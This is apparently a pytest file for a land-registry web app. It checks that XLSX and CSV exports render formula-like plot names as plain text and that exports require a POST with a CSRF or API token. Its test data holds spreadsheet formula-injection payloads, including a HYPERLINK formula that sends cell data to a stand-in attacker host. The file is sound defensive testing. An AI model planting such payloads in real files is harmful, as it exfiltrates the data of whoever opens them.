"""Exports are safe to open and are never taken by following a link (issue 9, item 7).

A plot named ``=1+1`` is the text ``=1+1`` in the XLSX (an explicit string cell, not a formula)
and ``'=1+1`` in the CSV; an export is a POST with a CSRF token (web) or a POST with a token
(API), and a GET of the export address writes no audit entry.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.audit.models import AuditEntry
from app.extensions import db
from app.registry import land
from tests.conftest import token_for
from tests.factories import land as land_fx

pytestmark = pytest.mark.hostile

NAMES = {
    "DKMC": "=1+1",
    "DKDZ": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "DKNZ": "+1+1",
    "DKXZ": "-2+3",
    "DKBZ": "@SUM(A1)",
}


@pytest.fixture
def hostile_plot(app, baseline):
    """A plot of collective A whose name and neighbours are formulas (committed in the test)."""
    from app.audit import trail

    with app.app_context(), trail.acting(trail.AuditContext(actor="factory", role="system")):
        doc_id = land_fx.make_document(baseline.collective_a)
        x, y = land_fx.origin(baseline.collective_a)
        land.add_plot(
            baseline.collective_a,
            land_fx.dkbm(baseline.collective_a),
            land_fx.geojson(land_fx.square(x, y)),
            land_fx.CRS,
            name=NAMES["DKMC"],
            east=NAMES["DKDZ"],
            south=NAMES["DKNZ"],
            west=NAMES["DKXZ"],
            north=NAMES["DKBZ"],
            source_document_id=doc_id,
            reason="测绘",
        )
        db.session.commit()


def _audit_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(AuditEntry))


def _xlsx_cells(data: bytes) -> dict[str, tuple[object, str]]:
    ws = load_workbook(io.BytesIO(data))["DK"]
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    (row,) = [r for r in rows[1:] if r[header.index("DKMC")].value == NAMES["DKMC"]]
    return {name: (row[i].value, row[i].data_type) for i, name in enumerate(header)}


def test_xlsx_export_holds_formula_like_names_as_text(client, auth, baseline, hostile_plot):
    auth.login("admin_a")
    r = client.post(f"/collectives/{baseline.collective_a}/export", data={"format": "xlsx"})
    assert r.status_code == 200
    cells = _xlsx_cells(r.data)
    for field, text in NAMES.items():
        assert cells[field] == (text, "s"), field  # the exact text, as a string cell
    assert b"<f>" not in _sheet_xml(r.data)  # no formula anywhere in the sheet


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_csv_export_neutralises_formulas_with_an_apostrophe(client, auth, baseline, hostile_plot):
    auth.login("admin_a")
    r = client.post(f"/collectives/{baseline.collective_a}/export", data={"format": "csv"})
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    text = r.data.decode("utf-8-sig")  # a byte-order mark, so Excel reads the Chinese names
    rows = list(csv.DictReader(io.StringIO(text)))
    (row,) = [x for x in rows if x["DKMC"].endswith("=1+1")]
    for field, value in NAMES.items():
        assert row[field] == "'" + value, field
    for x in rows:
        for value in x.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_command_line_xlsx_export_is_safe_too(app, baseline, hostile_plot, tmp_path):
    out = tmp_path / "dk.xlsx"
    args = ["export", "parcels", "--county", "--format", "xlsx", str(out)]
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    cells = _xlsx_cells(out.read_bytes())
    assert cells["DKMC"] == ("=1+1", "s")


def test_a_get_of_the_export_address_takes_nothing_and_writes_no_audit_entry(
    app, client, auth, baseline, hostile_plot
):
    auth.login("bureau")
    before = _audit_count(app)
    for url in (
        f"/collectives/{baseline.collective_a}/export?format=xlsx",
        "/exports/county?format=xlsx",
    ):
        r = client.get(url)
        assert r.status_code == 200, url
        assert r.mimetype == "text/html"  # a page with the form, not the file
        assert b'method="post"' in r.data
    assert _audit_count(app) == before
    r = client.post("/exports/county", data={"format": "xlsx"})
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    assert _audit_count(app) == before + 1  # the export itself is audited


def test_a_cross_site_export_post_is_refused_without_the_csrf_token(
    app, client, auth, baseline, hostile_plot
):
    auth.login("bureau")
    before = _audit_count(app)
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        r = client.post("/exports/county", data={"format": "xlsx"})
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    assert r.status_code == 400
    assert "表单已过期".encode() in r.data  # the message, in Chinese by default
    assert _audit_count(app) == before


def test_api_export_is_a_post_and_a_get_writes_nothing(app, client, baseline, hostile_plot):
    headers = {"Authorization": f"Bearer {token_for(app, 'admin_a')}"}
    url = f"/api/v1/collectives/{baseline.collective_a}/export?format=xlsx"
    before = _audit_count(app)
    r = client.get(url, headers=headers)
    assert r.status_code == 405 and r.get_json()["error"]["message"]
    assert _audit_count(app) == before
    r = client.post(url, headers=headers)
    assert r.status_code == 200
    assert _xlsx_cells(r.data)["DKMC"] == ("=1+1", "s")
    assert _audit_count(app) == before + 1
